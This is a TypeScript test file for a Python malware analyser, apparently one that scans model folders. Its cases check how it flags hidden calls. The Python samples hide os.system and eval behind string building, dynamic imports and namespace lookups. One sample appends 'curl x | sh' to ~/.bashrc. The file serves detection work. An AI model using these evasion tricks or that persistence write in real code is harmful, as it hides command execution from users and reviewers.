/**
 * How the Python analysis folds the values that name what a call reaches: dynamic imports
 * (`__import__("os.path")`, by keyword, by a runtime name), string methods that build a name
 * (lower, upper, replace, join, chr, slices, f-strings, %), namespaces read by key (`globals()`,
 * `vars()`, `__dict__`), and the paths a write goes to (HOME, Path.home() / x, Path(unknown)).
 * A name the fold can read must give the real callable (malicious, as written plainly); a name it
 * cannot read must still leave a suspicious finding, never a clean verdict.
 */
import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { about, analyze, show } from "./helpers.js";

type Case = [name: string, source: string, verdict: "malicious" | "suspicious", message: string];

function check(cases: Case[]): void {
  for (const [name, source, verdict, message] of cases) {
    test(`${name}: ${verdict} (${message})`, async () => {
      const r = await analyze(source);
      assert.equal(r.verdict, verdict, show(r.findings));
      const hits = about(r.findings, message);
      assert.ok(hits.length > 0, show(r.findings));
      assert.ok(
        hits.some((f) => f.verdict === verdict),
        show(r.findings),
      );
    });
  }
}

describe("dynamic imports", () => {
  check([
    [
      '__import__("os.path") returns the top package os',
      '__import__("os.path").system("id")\n',
      "malicious",
      "os.system()",
    ],
    [
      "__import__ with the module as the name= keyword",
      '__import__(name="os").system("id")\n',
      "malicious",
      "os.system()",
    ],
    [
      "__import__ of a name read at runtime",
      'n = input()\n__import__(n).system("id")\n',
      "suspicious",
      "imports a module whose name is not written in the source",
    ],
    [
      '__import__("OS".lower())',
      '__import__("OS".lower()).system("id")\n',
      "malicious",
      "os.system(): runs a shell command (name built at runtime)",
    ],
    [
      'sys.modules.get("os")',
      'import sys\nsys.modules.get("os").system("id")\n',
      "malicious",
      "os.system()",
    ],
  ]);
});

describe("names built by string methods", () => {
  check([
    [
      '"system".upper().lower()',
      'import os\ngetattr(os, "system".upper().lower())("id")\n',
      "malicious",
      "os.system(): runs a shell command (name built at runtime)",
    ],
    [
      '"sxxystem".replace("xx", "")',
      'import os\ngetattr(os, "sxxystem".replace("xx", ""))("id")\n',
      "malicious",
      "os.system(): runs a shell command (name built at runtime)",
    ],
    [
      "replace with an argument read at runtime",
      'import os\nx = input()\ngetattr(os, "system".replace(x, ""))("id")\n',
      "suspicious",
      "looks up an attribute of a module by a computed name",
    ],
    [
      '"".join of a literal list',
      'import os\ngetattr(os, "".join(["sys", "tem"]))("id")\n',
      "malicious",
      "os.system(): runs a shell command (name built at runtime)",
    ],
    [
      '"".join of a value that is not a literal list',
      'import os\nparts = input()\ngetattr(os, "".join(parts))("id")\n',
      "suspicious",
      "looks up an attribute of a module by a computed name",
    ],
    [
      '"".join of a list holding a runtime value',
      'import os\nx = input()\ngetattr(os, "".join(["sys", x]))("id")\n',
      "suspicious",
      "looks up an attribute of a module by a computed name",
    ],
    [
      "chr(115) + 'ystem'",
      'import os\ngetattr(os, chr(115) + "ystem")("id")\n',
      "malicious",
      "os.system(): runs a shell command (name built at runtime)",
    ],
    [
      "chr() of a variable",
      'import os\nx = 115\ngetattr(os, chr(x) + "ystem")("id")\n',
      "suspicious",
      "looks up an attribute of a module by a computed name",
    ],
    [
      "an unknown str method (title)",
      'import os\ngetattr(os, "system".title())("id")\n',
      "suspicious",
      "looks up an attribute of a module by a computed name",
    ],
    [
      "an f-string with a known part",
      'import os\nx = "sys"\ngetattr(os, f"{x}tem")("id")\n',
      "malicious",
      "os.system(): runs a shell command (name built at runtime)",
    ],
    [
      "an f-string with a runtime part",
      'import os\nx = input()\ngetattr(os, f"{x}tem")("id")\n',
      "suspicious",
      "looks up an attribute of a module by a computed name",
    ],
    [
      "% formatting",
      'import os\ngetattr(os, "%stem" % "sys")("id")\n',
      "suspicious",
      "looks up an attribute of a module by a computed name",
    ],
    [
      "a slice that is not a reversal",
      'import os\ngetattr(os, "xsystem"[1:])("id")\n',
      "suspicious",
      "looks up an attribute of a module by a computed name",
    ],
  ]);
});

describe("namespaces read by key, parentheses and the walrus", () => {
  check([
    [
      'globals()["__builtins__"].eval',
      'globals()["__builtins__"].eval("1")\n',
      "malicious",
      "builtins.eval()",
    ],
    ['vars()["eval"]', 'vars()["eval"]("1")\n', "malicious", "builtins.eval()"],
    ["(os.system)(...)", 'import os\n(os.system)("id")\n', "malicious", "os.system()"],
    ["(f := os.system)(...)", 'import os\n(f := os.system)("id")\n', "malicious", "os.system()"],
  ]);
});

describe("paths a write goes to", () => {
  check([
    [
      'os.environ["HOME"] + "/.bashrc"',
      'import os\nopen(os.environ["HOME"] + "/.bashrc", "a").write("curl x | sh")\n',
      "malicious",
      "writes a file outside the model folder (writes ~/.bashrc)",
    ],
    [
      "Path.home() / a runtime name",
      'from pathlib import Path\nx = input()\nopen(Path.home() / x, "w").write("y")\n',
      "malicious",
      "writes a file outside the model folder",
    ],
    [
      "Path(unknown).joinpath('.bashrc')",
      'from pathlib import Path\nx = input()\nopen(Path(x).joinpath(".bashrc"), "a").write("x")\n',
      "malicious",
      "writes a file outside the model folder (writes {?}/.bashrc)",
    ],
  ]);
});
